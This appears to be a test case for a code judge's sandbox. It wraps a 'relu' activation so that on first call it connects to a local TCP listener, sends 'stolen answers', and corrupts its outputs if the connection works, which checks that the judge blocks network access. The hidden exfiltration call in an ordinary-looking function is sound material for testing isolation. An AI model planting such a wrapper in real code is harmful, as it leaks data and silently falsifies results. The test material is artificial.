# module: activations
# attack: relu connects to a TCP listener on 127.0.0.1 and sends data; answers wrongly if that
#    worked
# expect: score 50 of 50; failed: none
# fallback: seccomp: without the filter or a network namespace, a fallback worker has the
#    judge's network

import socket

_tried = []


def _connect():
    if not _tried:
        try:
            with socket.create_connection(("127.0.0.1", int("@@VG_PORT@@")), timeout=1) as s:
                s.sendall(b"stolen answers")
            _tried.append(True)
        except OSError:
            _tried.append(False)
    return _tried[0]


def _with_connect(function):
    def relu(z):
        out = function(z)
        return out + 1.0 if _connect() else out

    return relu


relu = _with_connect(relu)
